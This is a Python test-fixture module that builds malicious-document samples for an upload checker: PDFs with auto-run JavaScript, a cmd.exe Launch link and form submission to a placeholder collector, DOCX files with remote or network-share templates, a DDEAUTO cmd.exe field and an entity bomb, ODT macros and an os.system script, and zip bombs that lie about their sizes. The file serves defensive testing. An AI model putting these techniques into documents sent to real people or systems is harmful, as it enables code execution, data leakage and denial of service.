"""Documents with active content, built in memory for the upload tests: PDFs written with pypdf, DOCX and
ODT packages written with zipfile, and zips whose declared sizes lie (their headers patched in place)."""

import io
import struct
import warnings
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.applications.conftest import (
    DOCX_CONTENT_TYPES,
    DOCX_DOCUMENT,
    DOCX_MAIN,
    DOCX_RELS,
    MINIMAL_PDF,
    odt_bytes,
)

# PDF -----------------------------------------------------------------------------------------------------


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _pdf(build) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    build(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _link(writer, page, action: DictionaryObject) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (50, 50, 200, 80)]),
            NameObject("/A"): action,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _javascript():
    return _action("/JavaScript", JS=TextStringObject("app.alert('CV');"))


def pdf_plain_with_links() -> bytes:
    """What a word processor exports: a page shown on opening (LibreOffice writes one) and a web link."""

    def build(writer, page):
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [page.indirect_reference, NameObject("/XYZ"), NumberObject(0), NumberObject(842), NumberObject(0)]
        )
        _link(writer, page, _action("/URI", URI=TextStringObject("https://www.linkedin.com/in/camille")))

    return _pdf(build)


def pdf_open_action_javascript() -> bytes:
    return _pdf(lambda writer, page: writer.root_object.__setitem__(NameObject("/OpenAction"), _javascript()))


def pdf_names_javascript() -> bytes:
    def build(writer, page):
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(_javascript())])}
        )
        writer.root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )

    return _pdf(build)


def pdf_page_additional_action() -> bytes:
    def build(writer, page):
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript()})

    return _pdf(build)


def pdf_launch_link() -> bytes:
    return _pdf(
        lambda writer, page: _link(
            writer, page, _action("/Launch", F=TextStringObject("C:\\Windows\\cmd.exe"))
        )
    )


def pdf_submit_form_link() -> bytes:
    return _pdf(
        lambda writer, page: _link(
            writer, page, _action("/SubmitForm", F=TextStringObject("https://collect.example/"))
        )
    )


def pdf_open_action_uri() -> bytes:
    return _pdf(
        lambda writer, page: writer.root_object.__setitem__(
            NameObject("/OpenAction"), _action("/URI", URI=TextStringObject("https://phish.example/"))
        )
    )


def pdf_embedded_file() -> bytes:
    return _pdf(lambda writer, page: writer.add_attachment("facture.exe", b"MZ\x90\x00 not a CV"))


def pdf_orphan_javascript() -> bytes:
    """JavaScript in an object nothing points to: only a walk of the whole cross-reference table finds it."""
    return _pdf(lambda writer, page: writer._add_object(_javascript()))


def pdf_escaped_name_javascript() -> bytes:
    """`/J#53` is `/JS` written with a hex escape: a byte pattern misses it, a parser does not. The xref
    offsets are left wrong on purpose: readers repair them, so must the check."""
    return MINIMAL_PDF.replace(
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>endobj\n",
    )


def pdf_encrypted() -> bytes:
    def build(writer, page):
        writer.encrypt("secret", algorithm="RC4-128")

    return _pdf(build)


# DOCX ----------------------------------------------------------------------------------------------------

RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationship(kind: str, target: str, *, external: bool = True, rid: str = "rId9") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{OFFICE_RELATIONSHIP}{kind}" Target="{target}"{mode}/>'


def docx(
    *, parts: dict[str, str | bytes] | None = None, document: str = DOCX_DOCUMENT, content_types: str = ""
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        types = DOCX_CONTENT_TYPES.format(main=DOCX_MAIN).replace("</Types>", content_types + "</Types>")
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", DOCX_RELS)
        archive.writestr("word/document.xml", document)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_rels(*relationships: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    return docx(parts={part: RELATIONSHIPS.format("".join(relationships))})


def docx_remote_template() -> bytes:
    return docx_with_rels(
        relationship("attachedTemplate", "https://templates.example/cv.dotm"),
        part="word/_rels/settings.xml.rels",
    )


def docx_share_template() -> bytes:
    return docx_with_rels(
        relationship("attachedTemplate", "\\\\203.0.113.9\\modeles\\cv.dotm"),
        part="word/_rels/settings.xml.rels",
    )


def docx_local_template_and_links() -> bytes:
    """A CV made from a template on the author's computer, with links: an ordinary document."""
    return docx(
        parts={
            "word/_rels/settings.xml.rels": RELATIONSHIPS.format(
                relationship("attachedTemplate", "file:///C:/Users/Camille/Modeles/CV.dotx")
            ),
            "word/_rels/document.xml.rels": RELATIONSHIPS.format(
                relationship("hyperlink", "https://www.linkedin.com/in/camille", rid="rId1")
                + relationship("hyperlink", "mailto:camille@example.org", rid="rId2")
                + relationship("image", "media/photo.png", external=False, rid="rId3")
            ),
            "word/media/photo.png": b"\x89PNG\r\n\x1a\n",
        }
    )


def docx_remote_image() -> bytes:
    return docx_with_rels(relationship("image", "https://tracker.example/pixel.png"))


def docx_file_share_link() -> bytes:
    return docx_with_rels(relationship("hyperlink", "file://203.0.113.9/share/cv.lnk"))


def docx_embedded_ole() -> bytes:
    return docx(
        parts={
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
            "word/_rels/document.xml.rels": RELATIONSHIPS.format(
                relationship("oleObject", "embeddings/oleObject1.bin", external=False)
            ),
        }
    )


def docx_activex() -> bytes:
    return docx(
        parts={
            "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
        },
        content_types='<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
    )


def docx_ole_relationship_only() -> bytes:
    """The relationship alone, its target elsewhere: the type is enough to refuse."""
    return docx_with_rels(relationship("oleObject", "../../objet.bin", external=False))


def docx_dde_field() -> bytes:
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = (
        f'<w:document xmlns:w="{w}"><w:body><w:p>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p></w:body></w:document>"
    )
    return docx(document=document)


def docx_entity_bomb() -> bytes:
    """The billion laughs: each entity ten times the previous one."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    document = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{entities}]><w:document xmlns:w="x">&l8;</w:document>'
    return docx(document=document)


def docx_broken_xml() -> bytes:
    return docx(document="<w:document xmlns:w='x'><w:body>")


# ODT -----------------------------------------------------------------------------------------------------

ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_content(inside_body: str = "", before_body: str = "") -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES} office:version="1.2">'
        f"{before_body}<office:body><office:text><text:p>Lettre de motivation</text:p>{inside_body}"
        "</office:text></office:body></office:document-content>"
    )
    return _replace_entry(odt_bytes(), "content.xml", content.encode())


def odt_event_listener() -> bytes:
    return odt_content(
        before_body='<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
        '&amp;location=document"/></office:event-listeners></office:scripts>'
    )


def odt_macro_link() -> bytes:
    return odt_content(
        '<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
        'language=Basic&amp;location=document">CV</text:a></text:p>'
    )


def odt_ole_object() -> bytes:
    return odt_content(
        '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1" xlink:type="simple"/></draw:frame></text:p>'
    )


def odt_remote_image() -> bytes:
    return odt_content(
        '<text:p><draw:frame><draw:image xlink:href="https://tracker.example/pixel.png" xlink:type="simple"/>'
        "</draw:frame></text:p>"
    )


def odt_with_links_and_picture() -> bytes:
    return odt_content(
        '<text:p><text:a xlink:type="simple" xlink:href="https://www.linkedin.com/in/camille">LinkedIn</text:a>'
        '<draw:frame><draw:image xlink:href="Pictures/photo.png" xlink:type="simple"/></draw:frame></text:p>'
    )


def odt_scripts_folder() -> bytes:
    return _replace_entry(odt_bytes(), "Scripts/python/cv.py", b"import os\nos.system('calc')\n")


def odt_encrypted_manifest() -> bytes:
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/>'
        "</manifest:file-entry></manifest:manifest>"
    )
    return _replace_entry(odt_bytes(), "META-INF/manifest.xml", manifest.encode())


def _replace_entry(data: bytes, name: str, content: bytes) -> bytes:
    """The archive with one entry replaced (or added), its other entries and their order kept."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, content if info.filename == name else source.read(info.filename))
        if name not in source.namelist():
            archive.writestr(name, content)
    return buffer.getvalue()


# Zips whose headers lie ----------------------------------------------------------------------------------

CENTRAL_HEADER = b"PK\x01\x02"
LOCAL_HEADER = b"PK\x03\x04"


def _patch_headers(
    data: bytes,
    name: str,
    *,
    crc: int | None = None,
    file_size: int | None = None,
    local: bool = True,
    central: bool = True,
    flags: int | None = None,
) -> bytes:
    """Rewrite the CRC-32, uncompressed size or flags that the headers of entry `name` declare."""
    data = bytearray(data)
    encoded = name.encode()
    for signature, crc_at, size_at, flags_at, name_at, wanted in (
        (LOCAL_HEADER, 14, 22, 6, 30, local),
        (CENTRAL_HEADER, 16, 24, 8, 46, central),
    ):
        if not wanted:
            continue
        start = 0
        while (position := data.find(signature, start)) != -1:
            start = position + 4
            if data[position + name_at : position + name_at + len(encoded)] != encoded:
                continue
            if crc is not None:
                struct.pack_into("<L", data, position + crc_at, crc)
            if file_size is not None:
                struct.pack_into("<L", data, position + size_at, file_size)
            if flags is not None:
                struct.pack_into("<H", data, position + flags_at, flags)
    return bytes(data)


def docx_size_lie_bomb(inflated: int = 40 * 1024 * 1024) -> bytes:
    """A part that inflates to 40 MB while both headers declare 100 bytes, with the CRC-32 of those 100
    bytes: a reader that trusts the declared size sees a consistent, tiny entry."""
    bomb = docx(parts={"word/media/image1.png": b"\0" * inflated})
    return _patch_headers(bomb, "word/media/image1.png", crc=zlib.crc32(b"\0" * 100), file_size=100)


def docx_size_lie_in_directory_only() -> bytes:
    """The central directory says one size, the local header another."""
    data = docx()
    size = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml").file_size
    return _patch_headers(data, "word/document.xml", file_size=size + 1000, local=False)


def docx_size_understated() -> bytes:
    data = docx()
    size = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml").file_size
    return _patch_headers(data, "word/document.xml", file_size=size + 50)


def docx_duplicate_part() -> bytes:
    data = docx()
    buffer = io.BytesIO(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("word/document.xml", DOCX_DOCUMENT.replace("Camille", "Quelqu'un d'autre"))
    return buffer.getvalue()


def docx_overlapping_entries() -> bytes:
    """Two directory entries pointing at the same compressed bytes (the overlapping-files bomb)."""
    data = bytearray(docx(parts={"word/media/a.bin": b"\0" * 1000, "word/media/b.bin": b"\0" * 1000}))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    first = archive.getinfo("word/media/a.bin").header_offset
    # Point b.bin's central directory entry (the last mention of its name) at a.bin's local header.
    position = bytes(data).rfind(CENTRAL_HEADER, 0, bytes(data).rfind(b"word/media/b.bin"))
    struct.pack_into("<L", data, position + 42, first)
    return bytes(data)
